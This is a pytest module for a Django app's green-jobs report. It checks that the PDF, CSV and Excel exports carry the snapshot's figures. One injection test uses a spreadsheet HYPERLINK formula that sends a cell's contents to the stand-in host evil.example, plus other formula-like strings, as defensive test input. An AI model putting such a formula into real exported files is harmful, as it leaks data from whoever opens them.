"""The report's figures over the demo of `make run`: the PDF prints the snapshot's numbers, the county
breakdown agrees with the indicators, and the exports carry the same numbers and never a formula.

The demo is loaded once for the module, at the same fixed date the other report tests use.
"""

import csv
import io

import pytest
import time_machine
from django.utils import timezone
from openpyxl import load_workbook

from greenjobs.text import to_persian_digits
from measurement import exports
from measurement import pdf as report_pdf
from measurement.periods import Period
from measurement.services import reports
from tests.measurement.test_reports import PERIOD, TODAY, pdf_text, printed

pytestmark = pytest.mark.django_db


@pytest.fixture(scope="module")
def _frozen():
    # Module-wide, so the demo's dates are set from the same day the tests read them.
    with time_machine.travel(TODAY, tick=False):
        yield


@pytest.fixture(autouse=True)
def demo(_frozen, demo_once):
    """The demo, loaded once for the module (conftest's demo_once)."""


def test_the_pdf_prints_the_snapshot_numbers_in_persian_digits(demo):
    snapshot = reports.build_snapshot(Period.parse(PERIOD))
    rows = {row["code"]: row for goal in snapshot["goals"] for row in goal["indicators"]}

    text = pdf_text(report_pdf.render(snapshot, "fa"))

    # the demo's figures are not trivial: billions of Rials applied for, a quarter of the G1.1 target
    assert rows["G1.4"]["actual"] >= 10**9
    assert printed(text, to_persian_digits(f"{rows['G1.4']['actual']:,}".replace(",", "٬")))
    assert printed(text, to_persian_digits(str(rows["G1.1"]["percent"]).replace(".", "٫")))
    county = snapshot["by_county"][0]
    assert printed(text, to_persian_digits(f"{county['loans_rial']:,}".replace(",", "٬")))


def test_the_county_breakdown_agrees_with_the_indicators_of_its_period(demo):
    # the demo spreads registrations and loans over the past quarters: last fiscal year has some of each,
    # and the year four years ago, before the demo's oldest record, none
    last_year = Period.containing(timezone.localdate(), "year").previous()
    for period, has_data in ((last_year, True), (Period(last_year.year - 3, "year"), False)):
        snapshot = reports.build_snapshot(period)
        rows = {row["code"]: row for goal in snapshot["goals"] for row in goal["indicators"]}

        assert sum(county["verified"] for county in snapshot["by_county"]) == rows["G1.1"]["actual"]
        assert sum(county["loans_rial"] for county in snapshot["by_county"]) == rows["G1.6"]["actual"]
        assert (rows["G1.1"]["actual"] > 0, rows["G1.6"]["actual"] > 0) == (has_data, has_data), period


# --- exports ----------------------------------------------------------------------------------------------


def indicator_rows(snapshot):
    return [(goal["code"], row) for goal in snapshot["goals"] for row in goal["indicators"]]


def as_cell(value):
    return "" if value is None else value


def test_the_csv_has_a_bom_and_one_row_per_indicator_with_the_snapshot_numbers(demo):
    snapshot = reports.build_snapshot(Period.parse(PERIOD))

    data = exports.to_csv(snapshot, "fa")

    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    expected = indicator_rows(snapshot)
    assert len(rows) == 1 + len(expected) == 34
    for (goal, row), line in zip(expected, rows[1:], strict=True):
        numbers = [str(as_cell(row[key])) for key in ("baseline", "target", "actual", "percent")]
        assert line == [goal, row["code"], row["name_fa"], row["unit_fa"], *numbers]


def test_the_excel_file_has_the_indicators_and_one_sheet_per_breakdown(demo):
    snapshot = reports.build_snapshot(Period.parse(PERIOD))

    workbook = load_workbook(io.BytesIO(exports.to_xlsx(snapshot, "en")))

    assert workbook.sheetnames == [
        "Indicators",
        "Trend",
        "By county",
        "By agency",
        "Loan funnel",
        "Jobs promised and verified",
        "Training",
        "Savings",
        "Late milestones",
    ]
    sheet = workbook["Indicators"]
    assert not sheet.sheet_view.rightToLeft
    values = list(sheet.iter_rows(values_only=True))
    assert values[0] == ("Goal", "Code", "Indicator", "Unit", "Baseline", "Target", "Actual", "% of target")
    expected = indicator_rows(snapshot)
    assert len(values) == 1 + len(expected)
    for (goal, row), line in zip(expected, values[1:], strict=True):
        assert line[:4] == (goal, row["code"], row["name_en"], row["unit_en"])
        assert line[4:] == (row["baseline"], row["target"], row["actual"], row["percent"])
    counties = list(workbook["By county"].iter_rows(values_only=True))[1:]
    assert [(c[0], c[1], c[3]) for c in counties] == [
        (row["name_en"], row["verified"], row["loans_rial"]) for row in snapshot["by_county"]
    ]
    funnel = {row[0]: row[1:] for row in list(workbook["Loan funnel"].iter_rows(values_only=True))[1:]}
    assert funnel["Applied for"] == (snapshot["funnel"]["applied"], snapshot["funnel"]["applied_amount"])


HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize("typed", [HOSTILE_TITLE, "+1+2", "-3+4", "@SUM(A1)"])
def test_text_that_looks_like_a_formula_is_exported_as_text_never_as_a_formula(demo, typed):
    # given: a milestone someone titled like a spreadsheet formula
    snapshot = reports.build_snapshot(Period.parse(PERIOD))
    snapshot["late_milestones"] = [
        {"initiative_fa": "ابتکار", "initiative_en": "Initiative", "title": typed, "agency": "DOE",
         "due_on": "1405/08/01", "days_late": 3}
    ]  # fmt: skip

    # when
    workbook = load_workbook(io.BytesIO(exports.to_xlsx(snapshot, "en")))
    rows = list(csv.reader(io.StringIO(exports.to_csv(snapshot, "en").decode("utf-8-sig"))))

    # then: Excel holds the title as a text cell with exactly what was typed
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.value for cell in cells if cell.data_type == "f"] == []
    assert typed in [cell.value for cell in cells]
    # and no CSV cell starts a formula
    assert [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@"))] == []


def test_ordinary_numbers_stay_numbers_in_the_excel_export(demo):
    snapshot = reports.build_snapshot(Period.parse(PERIOD))

    workbook = load_workbook(io.BytesIO(exports.to_xlsx(snapshot, "en")))

    numeric = [
        cell.value
        for row in workbook["Indicators"].iter_rows(min_row=2)
        for cell in row
        if cell.data_type == "n"
    ]
    assert numeric and all(isinstance(value, int | float) or value is None for value in numeric)
